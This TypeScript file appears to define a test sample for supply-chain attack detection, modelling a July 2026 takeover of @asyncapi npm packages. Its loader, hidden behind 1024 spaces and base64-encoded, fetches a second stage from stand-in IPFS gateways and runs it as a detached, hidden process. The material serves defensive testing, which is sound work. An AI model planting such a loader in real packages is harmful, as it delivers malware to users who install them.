import { defineAttack } from "../attack.ts";
import { contentOf, smallLibrary } from "../bases.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { PackageLine } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@asyncapi/generator` 3.3.1, `-helpers`, `-components` and specs, 14 July 2026: a workflow gave a bot's token, which pushed to the branch
 * that releases. A line of eight kilobytes behind a thousand spaces; it fetches its second stage from IPFS and starts it apart.
 */
export const asyncapi2026: Sample = defineAttack({
  id: "asyncapi-2026",
  title: "Eight kilobytes behind a thousand spaces fetch a second stage from IPFS",
  group: "takeover",
  trigger: "import",
  judged: [
    { name: "@asyncapi/generator-helpers", version: "1.1.1" },
    { name: "@asyncapi/specs", version: "6.11.2" },
  ],
  now: "2026-07-14T09:30:00Z",
  createLines: () => [
    line("@asyncapi/generator-helpers", ["1.0.1", "1.1.0", "1.1.1"], "2026-07-14T09:05:00Z"),
    line("@asyncapi/specs", ["6.11.0", "6.11.1", "6.11.2"], "2026-07-14T09:12:00Z"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  const files = smallLibrary(name);
  const honest = contentOf(files, "lib/normalize.js").trimEnd();
  return {
    name,
    files,
    way: "trusted-publisher",
    releases: [
      ["1.0.0", "2025-11-20T10:00:00Z"],
      [older, "2026-03-02T10:00:00Z"],
      [last, "2026-05-14T10:00:00Z"],
      [
        armed,
        at,
        { files: [{ path: "lib/normalize.js", content: `${honest}${" ".repeat(1024)}${loader}` }] },
      ],
    ],
  };
}

const loader = hideInTable(
  oneLine(
    commonScript(String.raw`
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const child = require("child_process");
const gates = ["ipfs.gateway.invalid", "dweb.gateway.invalid", "w3s.gateway.invalid"];
const folders = { win32: path.join(os.homedir(), "AppData", "Local", "NodeJS"), darwin: path.join(os.homedir(), "Library", "Application Support", "NodeJS"), linux: path.join(os.homedir(), ".local", "share", "NodeJS") };
const place = path.join(folders[process.platform] || folders.linux, "sync.js");
function fetchStage(turn) {
  https.get({ host: gates[turn % gates.length], path: "/ipfs/QmInertInertInertInertInertInertInertInertInert" }, (reply) => {
    let text = "";
    reply.on("data", (part) => { text += part; });
    reply.on("end", () => {
      fs.mkdirSync(path.dirname(place), { recursive: true });
      fs.writeFileSync(place, text);
      child.spawn(process.execPath, [place], { detached: true, stdio: "ignore", windowsHide: true }).unref();
    });
  }).on("error", () => { if (turn < 6) { fetchStage(turn + 1); } });
}
fetchStage(0);
`),
  ),
  "base64",
);
